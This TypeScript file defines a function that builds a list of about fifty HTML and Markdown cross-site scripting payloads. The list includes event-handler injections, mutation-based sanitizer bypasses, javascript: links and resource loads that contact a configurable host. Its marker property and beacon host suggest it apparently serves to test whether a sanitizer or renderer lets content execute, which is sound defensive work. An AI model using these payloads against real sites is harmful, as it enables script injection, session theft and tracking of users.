/**
 * Creates HTML that acts without a click, by script or by fetching.
 *
 * @param host name and port that it contacts
 * @param mark name of a property of `window` that it sets
 */
export function hostilePayloads(host: string, mark: string): readonly string[] {
  let count = 0;
  const url = (): string => `http://${host}/${(count += 1)}`;
  const run = `window['${mark}']=1;new Image().src='http://${host}/script'`;
  const inAttribute = run.replaceAll("'", '&#39;');
  return [
    `<script>${run}</script>`,
    `<script src="${url()}"></script>`,
    `<img src="${url()}">`,
    `<img src="x:" onerror="${inAttribute}">`,
    `<img srcset="${url()} 1x">`,
    `<picture><source srcset="${url()}"><img></picture>`,
    `<svg onload="${inAttribute}"></svg>`,
    `<svg><image href="${url()}"/></svg>`,
    `<svg><use href="${url()}#a"/></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><animate attributeName="x" dur="1ms" onbegin="${inAttribute}"/></svg>`,
    `<math><mtext><table><mglyph><style><img src="x:" onerror="${inAttribute}"></style></mglyph></table></mtext></math>`,
    `<iframe src="${url()}"></iframe>`,
    `<iframe srcdoc="<script>parent.${mark}=1</script>"></iframe>`,
    `<object data="${url()}"></object>`,
    `<embed src="${url()}">`,
    `<video src="${url()}" autoplay></video>`,
    `<video poster="${url()}"></video>`,
    `<audio src="${url()}" autoplay></audio>`,
    `<audio><source src="${url()}" onerror="${inAttribute}"></audio>`,
    `<input type="image" src="${url()}">`,
    `<input autofocus onfocus="${inAttribute}">`,
    `<details open ontoggle="${inAttribute}"><summary>a</summary></details>`,
    `<body background="${url()}">`,
    `<table background="${url()}"><tr><td background="${url()}">a</td></tr></table>`,
    `<link rel="stylesheet" href="${url()}">`,
    `<link rel="prefetch" href="${url()}">`,
    `<link rel="preload" as="image" href="${url()}">`,
    `<link rel="dns-prefetch" href="//${host}"><link rel="preconnect" href="http://${host}">`,
    `<meta http-equiv="refresh" content="0;url=${url()}">`,
    `<base href="http://${host}/"><img src="relative">`,
    `<style>@import url("${url()}");</style>`,
    `<style>body{background:url("${url()}")}</style>`,
    `<p style="background:url('${url()}')">a</p>`,
    `<p style="list-style-image:url('${url()}');display:list-item">a</p>`,
    `<p style="animation:x 1ms" onanimationstart="${inAttribute}">a</p>`,
    `<form action="${url()}"><button autofocus formaction="${url()}">a</button></form>`,
    `<a href="javascript:${inAttribute}" autofocus>a</a>`,
    `<a href="${url()}" ping="${url()}">a</a>`,
    `<marquee onstart="${inAttribute}">a</marquee>`,
    `<template><img src="${url()}"></template>`,
    `<noscript><img src="${url()}" title="</noscript><img src=x: onerror=${inAttribute}>"></noscript>`,
    `<textarea autofocus onfocus="${inAttribute}"></textarea>`,
    `<select autofocus onfocus="${inAttribute}"></select>`,
    `<xmp><p title="</xmp><img src=x: onerror=${inAttribute}>"></xmp>`,
    `<!--<img src="--><img src=x: onerror=${inAttribute}>">`,
    `<div contenteditable onfocus="${inAttribute}" tabindex="0" autofocus>a</div>`,
    `![picture](${url()})`,
    `[link](javascript:${run})`,
  ];
}
